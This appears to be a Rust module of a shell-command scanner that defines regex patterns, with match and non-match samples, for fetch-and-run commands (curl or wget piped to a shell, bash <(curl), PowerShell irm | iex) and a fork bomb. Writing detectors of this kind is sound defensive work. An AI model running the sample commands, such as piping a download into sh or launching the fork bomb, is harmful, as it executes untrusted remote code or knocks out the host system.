//! Programs that are fetched and run at once.

use super::built_in_pattern::BuiltInPattern;

/// A pipe into an interpreter, behind whatever prefixes.
macro_rules! into_interpreter {
    () => {
        concat!(
            r"\s[^;\n]*\|&?\s*(?:(?:sudo|doas|env|command|exec|nohup|nice|time)\s+(?:(?:-\S+|\w+=\S*)\s+)*(?:\w+\s+)?)*",
            r"(?:\S*/)?(?i:(?:ba|da|z|k|a|fi|pw)?sh|python[\d.]*|perl|ruby|node|php)",
            end!()
        )
    };
}

pub(super) const PATTERNS: &[BuiltInPattern] = &[
    BuiltInPattern::new(
        "curl | sh",
        concat!(command!("curl"), into_interpreter!()),
        &[
            "curl -fsSL https://x.example/i | sh",
            "curl https://x.example/i|sudo -E bash -s",
            "CURL x |\n  env A=b /bin/sh",
            "curl x | sudo -u root bash",
            "curl x | tee f | python3 -",
        ],
        &["curl https://x.example/i | jq .shell", "curl x -o f; sh f"],
    ),
    BuiltInPattern::new(
        "wget | sh",
        concat!(command!("wget"), into_interpreter!()),
        &["wget -qO- https://x.example/i | sh", "wget -O - x \\\n | \"bash\""],
        &["wget https://x.example/i | cat"],
    ),
    BuiltInPattern::new(
        "sh <(curl)",
        r"(?:^|[^\w.-])(?i:(?:ba|da|z|k|a|fi)?sh|eval|source|\.)\s[^;&|\n]*(?:[<$]\(|`)\s*(?i:curl|wget)\s",
        &["bash <(curl https://x.example/i)", "sh -c \"$(wget -qO- x)\"", "eval `curl x`"],
        &["echo $(curl x)"],
    ),
    BuiltInPattern::new(
        "iwr | iex",
        r"(?i)\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b[^;\n]*\|\s*(?:iex|invoke-expression)\b",
        &["irm https://x.example/i | iex"],
        &["irm https://x.example/i | out-file x"],
    ),
    BuiltInPattern::new(
        "fork bomb",
        r"\(\s*\)\s*\{[^}\n]*\|[^}\n]*&\s*\}\s*;",
        &[":(){ :|:& };:"],
        &["f() { a | b; }; f"],
    ),
];
